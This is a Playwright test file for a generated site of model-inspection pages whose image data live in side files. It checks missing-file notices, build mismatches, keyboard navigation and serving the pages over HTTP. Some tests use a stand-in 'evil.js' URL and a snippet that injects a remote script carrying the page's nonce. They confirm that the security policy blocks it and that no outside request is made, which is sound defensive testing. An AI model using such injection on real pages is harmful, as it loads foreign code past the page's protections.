"""A page whose images' data lie in files beside it: to a reader the same as a page that holds them itself."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.build import build_site
from tests.browser.model_page import ModelPage

MODEL = "models/alpha-wide.html"
SCREENS: dict[str, dict[str, Any]] = {
    "desktop": {"viewport": {"width": 1440, "height": 900}},
    "phone": {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True},
}


EVIL = "http://127.0.0.1:9/evil.js"
START_ELSEWHERE = """url => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => resolve(event.blockedURI));
    const script = document.createElement("script");
    script.nonce = document.querySelector("script[nonce]").nonce;
    script.addEventListener("load", () => resolve("run"));
    script.src = url;
    document.head.append(script);
})"""


class SilentHandler(SimpleHTTPRequestHandler):
    """Serves a folder and says nothing of it."""

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture(scope="module")
def filed_site(tiny_study_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny study's site with a data file for each image of each model."""
    output = tmp_path_factory.mktemp("filed") / "site"
    report = build_site(tiny_study_folder, output, images_in_page=1)
    of_judges = 1 + 1  # the judged patches, and their pictures
    assert report.data_files == 12 + 4 + of_judges  # an image of a model, and the canvases that models share
    return output


@pytest.fixture(params=SCREENS)
def screen(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Page]:
    """A page on a desk and on a phone, which must not complain."""
    context = browser.new_context(**SCREENS[request.param])
    page = context.new_page()
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
    yield page
    context.close()
    expected = (
        "ERR_FILE_NOT_FOUND",
        "was the page copied without its folder?",
        "cannot be a data file",
        EVIL,
    )
    assert not [line for line in complaints if not any(part in line for part in expected)]


def read(page: Page, file: Path, image: int) -> dict[str, Any]:
    """What a page shows of an image after a tap on its thumbnail."""
    opened = ModelPage.open(page, file)
    page.locator("#strip a").nth(image).click()
    expect(page.locator("#strip a").nth(image)).to_have_attribute("aria-current", "true")
    opened.click(1, 1)
    picture = page.locator("#canvas-image")
    return {
        "title": opened.title(),
        "lists": {lens: opened.tokens(lens) for lens in ("embedding", "logit", "contextual")},
        "state": opened.state(),
        "picture": picture.evaluate(
            "async (image) => { await image.decode(); const canvas = document.createElement('canvas');"
            "canvas.width = image.naturalWidth; canvas.height = image.naturalHeight;"
            "canvas.getContext('2d').drawImage(image, 0, 0); return canvas.toDataURL(); }"
        ),
    }


@pytest.mark.parametrize("image", [0, 1])
def test_a_reader_sees_the_same(screen: Page, tiny_site: Path, filed_site: Path, image: int) -> None:
    with_files, alone = read(screen, filed_site / MODEL, image), read(screen, tiny_site / MODEL, image)
    assert any(with_files["lists"].values())
    assert with_files == alone


def test_a_link_to_an_image_opens_it(page: Page, filed_site: Path) -> None:
    opened = ModelPage.open(page, filed_site / MODEL, "#image=scene-1&layer=2&patch=1,0")
    assert opened.state()["image"] == "scene-1"
    assert opened.title() == "Patch at row 1, column 0"


def test_a_link_needs_no_image_but_its_own(screen: Page, filed_site: Path, tmp_path: Path) -> None:
    site = tmp_path / "copy"
    shutil.copytree(filed_site, site)
    (site / "models" / "alpha-wide" / "00001.js").unlink()
    opened = ModelPage.open(screen, site / MODEL, "#image=scene-1&layer=2&patch=1,0")
    assert opened.title() == "Patch at row 1, column 0"
    assert any(opened.tokens(lens) for lens in ("embedding", "logit", "contextual"))
    expect(screen.locator("#notice")).to_have_text("")
    screen.locator("#strip a").first.click()
    expect(screen.locator("#notice")).to_contain_text("Image 1's data file")
    assert opened.state()["image"] == "scene-1"


def test_the_strip_shows_small_pictures_and_is_walked_by_arrow_keys(page: Page, filed_site: Path) -> None:
    opened = ModelPage.open(page, filed_site / MODEL)
    links = page.locator("#strip a")
    for link in links.all():
        expect(link.locator("img")).to_have_attribute("src", re.compile("^blob:"))
        width = link.locator("img").evaluate(
            "async (image) => { await image.decode(); return image.naturalWidth; }"
        )
        assert 0 < width <= 120
    links.first.focus()
    page.keyboard.press("ArrowRight")
    expect(links.nth(1)).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(links.nth(1)).to_be_focused()
    page.keyboard.press("Enter")
    expect(links.nth(1)).to_have_attribute("aria-current", "true")
    assert opened.state()["image"] == "scene-1"
    assert links.evaluate_all("links => links.map((link) => link.tabIndex)") == [-1, 0]
    page.keyboard.press("Home")
    expect(links.first).to_be_focused()


def test_a_missing_file_is_named_and_what_was_shown_stays(
    screen: Page, filed_site: Path, tmp_path: Path
) -> None:
    site = tmp_path / "copy"
    shutil.copytree(filed_site, site)
    (site / "models" / "alpha-wide" / "00002.js").unlink()
    opened = ModelPage.open(screen, site / MODEL)
    before = opened.tokens("logit")
    screen.locator("#strip a").nth(1).click()
    expect(screen.locator("#notice")).to_have_text(
        "Image 2's data file models/alpha-wide/00002.js cannot be read; "
        "was the page copied without its folder?"
    )
    assert opened.state()["image"] == "scene-0"
    assert opened.tokens("logit") == before
    expect(screen.locator("#strip a").first).to_have_attribute("aria-current", "true")


def test_a_page_without_its_folder_says_so(screen: Page, filed_site: Path, tmp_path: Path) -> None:
    shutil.copy(filed_site / MODEL, tmp_path)
    with screen.expect_event("pageerror"):
        screen.goto((tmp_path / "alpha-wide.html").as_uri())
    expect(screen.locator("#notice")).to_contain_text("Image 1's data file")
    expect(screen.locator("#notice")).to_contain_text("was the page copied without its folder?")


def test_files_of_another_build_are_refused(page: Page, filed_site: Path, tmp_path: Path) -> None:
    site = tmp_path / "copy"
    shutil.copytree(filed_site, site)
    folder = site / "models" / "alpha-wide"
    shutil.copy(site / "models" / "alpha-round" / "00002.js", folder / "00002.js")
    ModelPage.open(page, site / MODEL)
    page.locator("#strip a").nth(1).click()
    expect(page.locator("#notice")).to_contain_text("is of another build than this page")


def test_models_are_compared_by_the_same_files(page: Page, filed_site: Path) -> None:
    assert not (filed_site / "compare").exists()
    page.goto((filed_site / "compare.html").as_uri() + "#models=alpha-wide,beta-wide")
    page.locator("html[data-ready]").wait_for()


@pytest.mark.parametrize("name", [MODEL, "compare.html"])
def test_a_page_whose_facts_were_changed_asks_no_other_site(
    screen: Page, filed_site: Path, tmp_path: Path, name: str
) -> None:
    site = tmp_path / "copy"
    shutil.copytree(filed_site, site)
    text = (site / name).read_text(encoding="utf-8")
    changed = re.sub(r'("src": ?)"[^"]*alpha-wide/0000\d\.js"', rf'\1"{EVIL}"', text)
    assert changed != text
    (site / name).write_text(changed, encoding="utf-8")
    asked: list[str] = []
    screen.on("request", lambda request: asked.append(request.url))
    screen.goto((site / name).as_uri() + "#models=alpha-wide,beta-wide")
    notice = screen.locator(".problem" if name == "compare.html" else "#notice")
    expect(notice.first).to_contain_text("cannot be a data file")
    assert not [url for url in asked if url.startswith("http")]


@pytest.mark.parametrize("name", [MODEL, "compare.html"])
def test_the_policy_lets_no_script_come_from_another_site(screen: Page, tiny_site: Path, name: str) -> None:
    """Not even one that has the nonce."""
    screen.goto((tiny_site / name).as_uri())
    assert screen.evaluate(START_ELSEWHERE, EVIL) == EVIL


@pytest.mark.parametrize("name", [MODEL, "compare.html"])
def test_pages_are_read_from_a_server_too(screen: Page, filed_site: Path, name: str) -> None:
    handler = partial(SilentHandler, directory=str(filed_site))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        screen.goto(f"http://127.0.0.1:{server.server_port}/{name}#models=alpha-wide,beta-wide&patch=0,0")
        screen.locator("html[data-ready]").wait_for()
        expect(screen.locator(".token:visible").first).to_be_visible()
        screen.wait_for_load_state("networkidle")
        screen.goto("about:blank")  # nothing is asked for any more
        server.shutdown()
